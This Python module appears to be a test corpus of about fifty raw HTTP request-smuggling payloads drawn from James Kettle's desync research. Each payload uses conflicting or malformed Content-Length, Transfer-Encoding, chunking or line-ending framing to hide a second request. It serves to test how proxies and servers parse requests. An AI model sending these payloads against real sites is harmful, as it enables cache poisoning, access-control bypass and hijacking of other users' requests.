"""Requests whose end programs read differently, each with a second request hidden in it.

The tables of James Kettle's "HTTP Desync Attacks", and of the bug reports of proxies since.
"""

HIDDEN = b"GET /general/names/hidden HTTP/1.1\r\nHost: HOST\r\nX: "
_ZERO_CHUNK = b"0\r\n\r\n"


def _post(fields: bytes, body: bytes, *, target: bytes = b"/general/names/outer") -> bytes:
    return b"POST %b HTTP/1.1\r\nHost: HOST\r\n%b\r\n%b" % (target, fields, body)


def _with_length(fields: bytes, body: bytes) -> bytes:
    return _post(b"Content-Length: %d\r\n%b" % (len(body), fields), body)


_BOTH = _ZERO_CHUNK + HIDDEN
_TE = b"Transfer-Encoding: chunked\r\n"
_HIDDEN_CHUNK = b"%x\r\n%b\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN)

CASES: dict[str, bytes] = {
    "CL.TE": _with_length(_TE, _BOTH),
    "TE.CL": _post(b"Content-Length: 4\r\n" + _TE, _HIDDEN_CHUNK),
    "TE.CL, length last": _post(_TE + b"Content-Length: 4\r\n", _HIDDEN_CHUNK),
    "CL.CL": _post(b"Content-Length: 0\r\nContent-Length: %d\r\n" % len(HIDDEN), HIDDEN),
    "CL list": _post(b"Content-Length: 0, %d\r\n" % len(HIDDEN), HIDDEN),
    "CL same twice": _post(b"Content-Length: 1\r\nContent-Length: 1\r\n", b"a" + HIDDEN),
    "CL plus": _post(b"Content-Length: +0\r\n", HIDDEN),
    "CL hex": _post(b"Content-Length: 0x0\r\n", HIDDEN),
    "CL negative": _post(b"Content-Length: -1\r\n", HIDDEN),
    "CL empty": _post(b"Content-Length:\r\n", HIDDEN),
    "CL overflow": _post(b"Content-Length: 18446744073709551616\r\n", HIDDEN),
    "CL underscore": _post(b"Content-Length: 0_0\r\n", HIDDEN),
    "CL folded": _post(b"Content-Length:\r\n 0\r\n", HIDDEN),
    "CL of GET": _with_length(b"", HIDDEN).replace(b"POST", b"GET"),
    "TE identity": _with_length(b"Transfer-Encoding: chunked, identity\r\n", _BOTH),
    "TE identity first": _with_length(b"Transfer-Encoding: identity, chunked\r\n", _BOTH),
    "TE twice": _with_length(_TE + b"Transfer-Encoding: identity\r\n", _BOTH),
    "TE chunked twice": _with_length(b"Transfer-Encoding: chunked, chunked\r\n", _BOTH),
    "TE xchunked": _with_length(b"Transfer-Encoding: xchunked\r\n", _BOTH),
    "TE quoted": _with_length(b'Transfer-Encoding: "chunked"\r\n', _BOTH),
    "TE tab": _with_length(b"Transfer-Encoding:\tchunked\r\n", _BOTH),
    "TE vertical tab": _with_length(b"Transfer-Encoding: \x0bchunked\r\n", _BOTH),
    "TE space before colon": _with_length(b"Transfer-Encoding : chunked\r\n", _BOTH),
    "TE space before name": _with_length(b" Transfer-Encoding: chunked\r\n", _BOTH),
    "TE folded": _with_length(b"Transfer-Encoding:\r\n chunked\r\n", _BOTH),
    "TE after fold": _with_length(b"X: y\r\n\tTransfer-Encoding: chunked\r\n", _BOTH),
    "TE bare LF": _with_length(b"X: y\nTransfer-Encoding: chunked\r\n", _BOTH),
    "TE bare CR": _with_length(b"X: y\rTransfer-Encoding: chunked\r\n", _BOTH),
    "TE NUL": _with_length(b"Transfer-Encoding: chunked\0\r\n", _BOTH),
    "TE underscore": _with_length(b"Transfer_Encoding: chunked\r\n", _BOTH),
    "TE parameter": _with_length(b"Transfer-Encoding: chunked;q=1\r\n", _BOTH),
    "TE of 1.0": _with_length(_TE, _BOTH).replace(b"HTTP/1.1", b"HTTP/1.0", 1),
    "chunk size space": _post(_TE, b"0 \r\n\r\n" + HIDDEN),
    "chunk size 0x": _post(_TE, b"0x0\r\n\r\n" + HIDDEN),
    "chunk size plus": _post(_TE, b"+0\r\n\r\n" + HIDDEN),
    "chunk size overflow": _post(_TE, b"10000000000000000\r\n" + _BOTH),
    "chunk size bare LF": _post(_TE, b"0\n\n" + HIDDEN),
    "chunk extension": _post(_TE, b"0;a=b\r\n\r\n" + HIDDEN),
    "chunk extension bare LF": _post(_TE, b"2;\nxx\r\n2d\r\n0\r\n\r\n" + HIDDEN),
    "chunk data bare LF": _post(_TE, b"1\r\na\n0\r\n\r\n" + HIDDEN),
    "chunk data too long": _post(_TE, b"1\r\nab\r\n0\r\n\r\n" + HIDDEN),
    "trailer": _post(_TE, b"0\r\nContent-Length: 50\r\n\r\n" + HIDDEN),
    "trailer bare LF": _post(_TE, b"0\r\nX: y\n\n" + HIDDEN),
    "Expect": _with_length(b"Expect: 100-continue\r\n", HIDDEN),
    "Connection lists framing": _with_length(b"Connection: Content-Length\r\n", HIDDEN),
    "Connection lists TE": _with_length(_TE + b"Connection: Transfer-Encoding\r\n", _BOTH),
    "Upgrade": _with_length(b"Connection: Upgrade\r\nUpgrade: h2c\r\n", HIDDEN),
    "target LF": _post(b"", b"", target=b"/general/names/a%0aHost:x%0d%0a%0d%0a" + b"b"),
    "target bare LF": _post(b"", b"", target=b"/general/names/a\nX: y"),
}
"""Each begins with a request to /general/names/outer; HOST stands for the name of the site."""
